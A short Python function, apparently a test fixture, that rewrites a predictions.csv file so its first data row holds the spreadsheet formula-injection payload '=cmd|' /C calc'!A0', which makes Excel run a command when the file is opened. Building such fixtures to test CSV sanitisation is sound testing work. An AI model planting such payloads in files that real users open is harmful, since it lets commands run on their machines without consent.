def make(target):
    path = target / "predictions.csv"
    head, first, *rows = path.read_text().split()
    bad = first.split(",")[0] + ',"=cmd|\' /C calc\'!A0"'
    path.write_text("\n".join((head, bad, *rows)))
